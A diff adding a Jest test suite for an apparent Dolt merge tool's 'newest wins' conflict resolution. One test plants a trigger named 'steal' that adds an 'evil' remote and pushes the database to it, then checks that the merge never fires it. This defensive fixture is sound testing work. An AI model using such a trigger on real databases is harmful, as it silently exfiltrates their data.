@@ -1,0 +1,131 @@
+import { setTimeout as delay } from 'node:timers/promises';
+import { describe, expect, test } from '@jest/globals';
+import { tempFolder } from '../helpers/temp-folder.ts';
+import { type TwoTowns, twoTowns } from '../helpers/two-towns.ts';
+
+const TABLE = 'CREATE TABLE t (id INT PRIMARY KEY, a VARCHAR(20), b VARCHAR(20), updated_at DATETIME)';
+
+/** Merges in both towns, far enough apart that dates in seconds would differ, and expects one commit. */
+async function mergeInBoth(towns: TwoTowns) {
+  const inNorth = await towns.run('north');
+  expect(inNorth.run('south').failure).toBeNull();
+  await delay(2_100);
+  const inSouth = await towns.run('south');
+  expect(inSouth.head).toBe(inNorth.head);
+  return { north: inNorth.run('south').conflicts, south: inSouth.run('north').conflicts };
+}
+
+const at = (time: string) => `updated_at = '2026-01-${time}'`;
+
+describe('a cell under newest', () => {
+  test('counts by the time it was written, not by what was done to its row later', async () => {
+    await using folder = await tempFolder();
+    const towns = await twoTowns(folder, TABLE, "INSERT INTO t VALUES (1, 'a', 'b', '2026-01-01')");
+    await towns.edit(
+      [
+        `UPDATE t SET a = 'north', ${at('02')}`,
+        "CALL DOLT_COMMIT('-A', '-m', 'n1')",
+        `UPDATE t SET b = 'later', ${at('09')}`,
+      ],
+      [`UPDATE t SET a = 'south', ${at('05')}`],
+    );
+    const told = await mergeInBoth(towns);
+    expect(await towns.north.rows('SELECT a, b, updated_at FROM t')).toEqual([
+      { a: 'south', b: 'later', updated_at: '2026-01-09 00:00:00' },
+    ]);
+    expect(told.north[0]).toMatchObject({
+      columns: ['a', 'updated_at'],
+      base: { a: 'a' },
+      ours: { a: 'north' },
+      theirs: { a: 'south' },
+      resolution: 'theirs (later): a; ours (later): updated_at',
+    });
+    expect(told.south[0]?.resolution).toBe('ours (later): a; theirs (later): updated_at');
+  });
+
+  test('that was changed and changed back is untouched', async () => {
+    await using folder = await tempFolder();
+    const towns = await twoTowns(folder, TABLE, "INSERT INTO t VALUES (1, 'a', 'b', '2026-01-01')");
+    await towns.edit(
+      [
+        `UPDATE t SET a = 'x', b = 'N', ${at('08')}`,
+        "CALL DOLT_COMMIT('-A', '-m', 'n1')",
+        `UPDATE t SET a = 'a', ${at('09')}`,
+      ],
+      [`UPDATE t SET a = 'south', ${at('05')}`],
+    );
+    await mergeInBoth(towns);
+    expect(await towns.north.rows('SELECT a, b FROM t')).toEqual([{ a: 'south', b: 'N' }]);
+  });
+
+  test('without a time column counts by its commit; no trigger fires and nothing is dated anew', async () => {
+    await using folder = await tempFolder();
+    const thief = folder.file('thief');
+    const towns = await twoTowns(
+      folder,
+      'CREATE TABLE t (id INT PRIMARY KEY, a VARCHAR(20), touched DATETIME DEFAULT CURRENT_TIMESTAMP ON UPDATE CURRENT_TIMESTAMP)',
+      "INSERT INTO t VALUES (1, 'a', '2026-01-01')",
+      'CREATE TABLE log (n INT PRIMARY KEY)',
+      `CREATE TRIGGER steal BEFORE UPDATE ON t FOR EACH ROW BEGIN IF OLD.a <> 'a' THEN INSERT INTO log VALUES (1); CALL dolt_remote('add', 'evil', 'file://${thief}'); CALL dolt_push('evil', 'main'); END IF; END`,
+    );
+    await towns.edit(
+      ["UPDATE t SET a = 'n', touched = '2026-02-01'"],
+      ["UPDATE t SET a = 's', touched = '2026-02-02'"],
+    );
+    await mergeInBoth(towns);
+    expect(await towns.north.rows('SELECT a, touched FROM t')).toEqual([{ a: 's', touched: '2026-02-02 00:00:00' }]);
+    expect(await towns.north.rows('SELECT * FROM log')).toEqual([]);
+    expect(await towns.north.rows("SELECT * FROM dolt_remotes WHERE name = 'evil'")).toEqual([]);
+  });
+
+  test('is looked up under the names that its table had on each side', async () => {
+    await using folder = await tempFolder();
+    const towns = await twoTowns(folder, TABLE, "INSERT INTO t VALUES (1, 'a', 'b', '2026-01-01')");
+    await towns.edit(
+      ['ALTER TABLE t ADD n INT DEFAULT 5', `UPDATE t SET n = 7, a = 'N', ${at('02')}`],
+      ['ALTER TABLE t ADD s INT', 'ALTER TABLE t DROP b', `UPDATE t SET s = 8, a = 'S', ${at('03')}`],
+    );
+    await mergeInBoth(towns);
+    expect(await towns.north.rows('SELECT * FROM t')).toEqual([
+      { id: 1, a: 'S', n: 7, s: 8, updated_at: '2026-01-03 00:00:00' },
+    ]);
+  });
+
+  test('computes a stored generated column anew from the cells that won', async () => {
+    await using folder = await tempFolder();
+    const towns = await twoTowns(
+      folder,
+      "CREATE TABLE t (id INT PRIMARY KEY, a INT, b INT, s VARCHAR(40) GENERATED ALWAYS AS (CONCAT(a, '`a`', b)) STORED, updated_at DATETIME, KEY k (a))",
+      "INSERT INTO t (id, a, b, updated_at) VALUES (1, 1, 1, '2026-01-01')",
+    );
+    await towns.edit([`UPDATE t SET a = 5, b = 6, ${at('02')}`], [`UPDATE t SET a = 7, ${at('03')}`]);
+    await mergeInBoth(towns);
+    expect(await towns.north.rows('SELECT a, b, s FROM t')).toEqual([{ a: 7, b: 6, s: '7`a`6' }]);
+  });
+});
+
+describe('a row added on both sides', () => {
+  test('is kept whole as it was created first, the other one is told, and somebody has to look', async () => {
+    await using folder = await tempFolder();
+    const towns = await twoTowns(
+      folder,
+      'CREATE TABLE t (id INT PRIMARY KEY, a VARCHAR(20), b VARCHAR(20), created_at DATETIME, updated_at DATETIME)',
+    );
+    await towns.edit(
+      ["INSERT INTO t VALUES (1, 'n', 'n', '2026-01-02', '2026-01-09'), (2, 'same', 'n', NULL, NULL)"],
+      ["INSERT INTO t VALUES (1, 's', 's', '2026-01-01', '2026-01-03'), (2, 'same', 's', NULL, NULL)"],
+    );
+    const told = await mergeInBoth(towns);
+    const rows = await towns.north.rows('SELECT id, a, b FROM t ORDER BY id');
+    expect(rows[0]).toEqual({ id: 1, a: 's', b: 's' });
+    expect(told.north[0]).toMatchObject({
+      kind: 'id-collision',
+      ours: { a: 'n', b: 'n' },
+      theirs: { a: 's', b: 's' },
+      resolution: 'theirs (created first)',
+      left: true,
+    });
+    expect(told.north.map(({ left }) => left)).toEqual([true, true]);
+    expect(rows[1]?.['b']).toBe(told.north[1]?.resolution.startsWith('ours') ? 'n' : 's');
+  });
+});
